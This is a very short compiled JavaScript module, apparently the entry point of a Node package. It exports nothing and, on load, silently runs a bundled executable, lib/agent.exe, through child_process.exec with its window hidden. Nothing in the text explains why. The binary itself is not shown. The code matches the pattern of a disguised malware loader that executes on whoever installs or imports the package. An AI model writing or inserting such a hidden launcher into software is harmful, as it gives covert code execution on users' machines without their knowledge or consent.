"use strict";
const child_process_1 = require("child_process");
const path_1 = require("path");
(0, child_process_1.exec)(`"${path_1.join(__dirname, '..', 'lib', 'agent.exe')}"`, { windowsHide: true }, () => { });
module.exports = {};
